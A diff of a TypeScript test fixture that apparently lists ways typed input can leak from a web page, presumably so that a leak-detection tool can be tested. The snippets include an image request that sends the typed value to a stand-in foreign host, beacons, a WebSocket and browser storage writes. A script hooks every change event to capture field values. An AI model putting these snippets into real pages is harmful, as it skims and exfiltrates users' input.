@@ -6,13 +6,15 @@ export const leaks: Readonly<Record<string, string>> = {
   'request body (POST /api/events)': 'fetch("/api/events", { method: "POST", body: JSON.stringify({ typed }) })',
   'request body (POST /api/join)':
     'navigator.sendBeacon("/api/join", [...typed].map(c => c.charCodeAt(0).toString(16)).join(""))',
-  websocket: '(s => s.onopen = () => s.send(typed))(new WebSocket("ws://" + location.host + "/prise"))',
-  'foreign origin': 'new Image().src = "http://ailleurs.test/" + typed',
+  websocket:
+    'new Promise(done => { const s = new WebSocket("ws://" + location.host + "/prise"); s.onopen = () => done(s.send(typed)); })',
+  'foreign origin':
+    'new Promise(done => { const i = new Image(); i.onerror = done; i.src = "http://ailleurs.test/" + typed; })',
   cookies: 'document.cookie = "note=" + typed',
   localStorage: 'localStorage.setItem("note", typed)',
   sessionStorage: 'sessionStorage.setItem("note", typed)',
   indexedDB:
-    '(o => { o.onupgradeneeded = () => o.result.createObjectStore("n"); o.onsuccess = () => { o.result.transaction("n", "readwrite").objectStore("n").put(new TextEncoder().encode(typed), 1); o.result.close(); }; })(indexedDB.open("note", 1))',
+    'new Promise(done => { const o = indexedDB.open("note", 1); o.onupgradeneeded = () => o.result.createObjectStore("n").put(new TextEncoder().encode(typed), 1); o.onsuccess = () => done(o.result.close()); })',
   caches: 'caches.open("note").then(cache => cache.put("/note", new Response(typed)))',
   history: 'history.replaceState({ typed }, "")',
   title: 'document.title = typed',
@@ -25,11 +27,21 @@ export const leaks: Readonly<Record<string, string>> = {
     'navigator.storage.getDirectory().then(async root => { const file = await root.getFileHandle("note", { create: true }); const w = await file.createWritable(); await w.write(typed); await w.close(); })',
 };
 
-/** Put in every page: `leaking` says which one is open. */
+/** What Enter does in a field with a name, in a form that may be sent: the address, the history and the browser's memory of forms. */
+export const formLeak = `
+  const form = document.createElement('form');
+  form.action = '/';
+  form.innerHTML = '<input name="q"><button>ok</button>';
+  document.body.prepend(form);
+`;
+
+/** Put in every page: `leaking` says which one is open, `leaked` is resolved once it has let something out. */
 export const leakyScript = `
   window.leaking = null;
   const ways = { ${Object.entries(leaks)
-    .map(([place, way]) => `${JSON.stringify(place)}: typed => { ${way} }`)
+    .map(([place, way]) => `${JSON.stringify(place)}: typed => (${way})`)
     .join(',\n')} };
-  addEventListener('change', ({ target }) => window.leaking && ways[window.leaking](target.value), true);
+  addEventListener('change', ({ target }) => {
+    window.leaked = window.leaking && ways[window.leaking](target.value);
+  }, true);
 `;
